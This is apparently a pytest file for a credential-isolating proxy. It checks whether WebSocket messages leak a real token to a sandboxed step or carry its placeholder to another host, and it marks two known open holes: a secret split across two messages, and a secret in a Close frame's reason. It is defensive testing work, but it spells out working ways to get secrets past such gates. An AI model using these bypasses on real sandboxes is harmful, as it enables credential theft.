"""Issue 13 (second look at red team 13's fixes): WebSockets, where the policy allows them
(`network.l7[host]: {websocket: allow}`), are a channel past the request-level checks. From the
credential's host, a message echoes the real token the upgrade carried: the step must read
the placeholder. To another host, a message carries the placeholder: it is dropped before it
leaves and the step is marked. The server's log of messages is the oracle, with the canary.
The client inside is Python's standard library speaking RFC 6455 through the step's proxy
(no WebSocket client is installed here). Runs as root: the gate's judgement does not depend on the step's uid.

The red team's second look (round 13b): a real value echoed in two messages, or in a Close
frame's reason, reached the step (one message sent in several frames is held: mitmproxy joins
them before the gate looks). The gate rewrites each whole message from the server
(credentials.py websocket_message) but keeps nothing between messages, unlike a streamed HTTP
body, whose tail that could begin a real value is held for the next chunk. A server that
streams output in small messages (a CI log, a terminal, a chat token stream) splits the token
across two; each half passes. Both are open holes, marked xfail(strict) with why."""

import base64
import hashlib
import json
import shutil
import socket
import ssl
import struct
import threading
from contextlib import contextmanager

import pytest

from conftest import CANARY
from gatekit import netproject, servers

pytestmark = pytest.mark.skipif(shutil.which("socat") is None or shutil.which("python3") is None,
                                reason="socat or python3 is not installed")

GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"

# The step's client: CONNECT through $HTTPS_PROXY, TLS, upgrade (with the placeholder as its
# Bearer token if argv[3] is "auth"), send argv[2] as one text message ("PH": the
# placeholder), print the answer, and argv[4] further messages if given.
CLIENT = r'''
import base64, os, socket, ssl, struct, sys
from urllib.parse import urlsplit
host, port = sys.argv[1].rsplit(":", 1)
p = urlsplit(os.environ["HTTPS_PROXY"])
s = socket.create_connection((p.hostname, p.port), timeout=20)
auth = base64.b64encode(f"{p.username}:{p.password}".encode()).decode()
s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
assert b" 200" in head.split(b"\r\n")[0], head
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
t = ctx.wrap_socket(s, server_hostname=host)
key = base64.b64encode(os.urandom(16)).decode()
t.sendall((f"GET /ws HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n" +
           (f"Authorization: Bearer {os.environ['MY_TOKEN']}\r\n" if sys.argv[3:4] == ["auth"] else "") +
           "\r\n").encode())
head = b""
while b"\r\n\r\n" not in head:
    head += t.recv(1)
print(head.split(b"\r\n")[0].decode())
data = sys.argv[2].replace("PH", os.environ["MY_TOKEN"]).encode()
mask = os.urandom(4)
t.sendall(bytes([0x81, 0x80 | len(data)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
t.settimeout(5)
try:
    b0, b1 = t.recv(1)[0], t.recv(1)[0]
    n = b1 & 0x7F
    if n == 126:
        n = struct.unpack("!H", t.recv(2))[0]
    body = b""
    while len(body) < n:
        body += t.recv(n - len(body))
    print("answer:", body.decode("utf-8", "replace"))
    for _ in range(int(sys.argv[4]) if sys.argv[4:] else 0):   # the further messages
        b0, b1 = t.recv(1)[0], t.recv(1)[0]
        n = b1 & 0x7F
        body = b""
        while len(body) < n:
            body += t.recv(n - len(body))
        print("more:", body.decode("utf-8", "replace"))
except (socket.timeout, IndexError):
    print("no answer")
'''


def _recv_exact(s, n):
    out = b""
    while len(out) < n:
        got = s.recv(n - len(out))
        if not got:
            raise OSError("closed")
        out += got
    return out


@contextmanager
def ws_server(ca):
    """A WebSocket server over TLS on 127.0.0.1 (names api.github.com, stub.example.test):
    each text message is logged in `seen` (with the upgrade's Authorization); "echo-auth" is
    answered with that Authorization, "echo-close" with a Close frame whose reason quotes it,
    "echo-frag" with it in one message of two frames, "echo-split" with it in two messages;
    anything else with "ok"."""
    cert, key = ca.issue(["api.github.com", "stub.example.test"], stem="ws")
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    lsock = socket.socket()
    lsock.bind(("127.0.0.1", 0))
    lsock.listen(8)
    lsock.settimeout(0.2)
    stop, seen = threading.Event(), []

    def handle(conn):
        try:
            with ctx.wrap_socket(conn, server_side=True) as s:
                s.settimeout(10)
                head = b""
                while b"\r\n\r\n" not in head:
                    head += _recv_exact(s, 1)
                lines = head.decode("latin-1").split("\r\n")
                hdrs = {k.strip().lower(): v.strip() for k, _, v in (h.partition(":") for h in lines[1:] if h)}
                accept = base64.b64encode(hashlib.sha1(hdrs["sec-websocket-key"].encode() + GUID).digest())
                s.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                          b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
                while True:
                    b0, b1 = _recv_exact(s, 2)
                    n = b1 & 0x7F
                    if n == 126:
                        n = struct.unpack("!H", _recv_exact(s, 2))[0]
                    mask = _recv_exact(s, 4) if b1 & 0x80 else b"\0\0\0\0"
                    data = bytes(b ^ mask[i % 4] for i, b in enumerate(_recv_exact(s, n)))
                    if b0 & 0x0F == 8:
                        return
                    msg = data.decode("utf-8", "replace")
                    seen.append((hdrs.get("host", ""), hdrs.get("authorization", ""), msg))
                    auth = hdrs.get("authorization", "").encode()
                    if msg == "echo-close":     # an error closes the socket, its reason quoting the request
                        reason = b"bad credentials: " + auth
                        s.sendall(bytes([0x88, 2 + len(reason)]) + struct.pack("!H", 1008) + reason)
                        return
                    if msg == "echo-frag":      # one message in two frames (FIN clear, then a continuation)
                        half = len(auth) // 2
                        s.sendall(bytes([0x01, half]) + auth[:half])
                        s.sendall(bytes([0x80, len(auth) - half]) + auth[half:])
                        continue
                    if msg == "echo-split":     # a log or terminal stream: output in small messages
                        half = len(auth) // 2
                        s.sendall(bytes([0x81, half]) + auth[:half])
                        s.sendall(bytes([0x81, len(auth) - half]) + auth[half:])
                        continue
                    out = auth if msg == "echo-auth" else b"ok"
                    s.sendall(bytes([0x81, len(out)]) + out)
        except (OSError, ValueError, KeyError):
            pass

    def serve():
        while not stop.is_set():
            try:
                conn, _ = lsock.accept()
            except (socket.timeout, OSError):
                continue
            threading.Thread(target=handle, args=(conn,), daemon=True).start()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield lsock.getsockname()[1], seen
    finally:
        stop.set()
        t.join(5)
        lsock.close()


@contextmanager
def world(attacker, other=True):
    """The WebSocket server as the credential's host, api.github.com (and, with `other`, as a
    second allowed host, stub.example.test), the client in the project as ws.py."""
    with servers() as (git, stub), ws_server(git.ca) as (port, seen):
        attacker.env["MY_TOKEN"] = CANARY
        api = f"api.github.com:{port}"
        second = f"stub.example.test:{port}" if other else None
        hosts = [api, second] if other else [api]
        netproject(attacker, git, stub, allow=hosts, tail=(
            "  l7:\n" + "".join(f"    \"{h}\": {{websocket: allow}}\n" for h in hosts) +
            f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n"))
        attacker.run(f"cat > /tmp/ws.py <<'EOF'\n{CLIENT}\nEOF\ncp /tmp/ws.py ws.py")
        yield api, second, seen


def test_a_real_value_echoed_in_a_message_comes_back_as_the_placeholder(attacker):
    with world(attacker) as (api, other, seen):
        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
        r = attacker.run(f"python3 ws.py {api} echo-auth auth")
        out = r.stdout + r.stderr
        assert "101" in out, out
        assert seen and seen[-1][1] == f"Bearer {CANARY}", seen       # the real token arrived
        assert CANARY not in out, out
        assert f"answer: Bearer {ph}" in out, out


def test_the_placeholder_in_a_message_to_another_host_is_dropped_and_marked(attacker):
    with world(attacker) as (api, other, seen):
        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
        r = attacker.run(f"python3 ws.py {other} 'hello PH'")
        out = r.stdout + r.stderr
        assert "101" in out, out                          # the upgrade itself carried nothing
        assert not [m for m in seen if ph in m[2] or ph in m[1]], seen
        s = json.loads(attacker.envgit("log", "--json", check=True).stdout)[-1]
        assert "credential-misuse" in s["marks"], (s["marks"], s["requests"])
        bad = [q for q in s["requests"] if q.get("rule") == "credential-misuse"]
        assert bad and bad[0]["credential"] == "tok" and bad[0]["host"] == "stub.example.test"
        attacker.run(f"python3 ws.py {other} 'hello plain'")
        assert [m for m in seen if m[2] == "hello plain"], seen   # an ordinary message passes


# --- a real value split across messages, or in a Close frame's reason ----------------------

@pytest.mark.xfail(strict=True, reason="open hole (README, THREATS): each WebSocket message is "
                   "rewritten on its own; a real value split across two messages is not held back, "
                   "since holding a message for the next changes an interactive stream's timing")
def test_a_real_value_echoed_in_two_messages_does_not_reach_the_step(attacker):
    with world(attacker, other=False) as (api, _, seen):
        r = attacker.run(f"python3 ws.py {api} echo-split auth 1")
        out = r.stdout + r.stderr
        assert "101" in out, out
        assert seen and seen[-1][1] == f"Bearer {CANARY}", seen       # the real token arrived
        joined = "".join(line.split(": ", 1)[1] for line in out.splitlines()
                         if line.startswith(("answer: ", "more: ")))
        assert CANARY not in joined, f"the real token reached the step in two messages:\n{out}"


@pytest.mark.xfail(strict=True, reason="open hole (README, THREATS): mitmproxy 12.3 forwards a "
                   "WebSocket Close frame without an addon hook that can rewrite its reason")
def test_a_real_value_echoed_in_a_close_reason_does_not_reach_the_step(attacker):
    """A Close frame's reason is no message: the gate never looks at it."""
    with world(attacker, other=False) as (api, _, seen):
        r = attacker.run(f"python3 ws.py {api} echo-close auth")
        out = r.stdout + r.stderr
        assert "101" in out, out
        assert seen and seen[-1][1] == f"Bearer {CANARY}", seen       # the real token arrived
        assert CANARY not in out, f"the real token reached the step in a Close frame's reason:\n{out}"

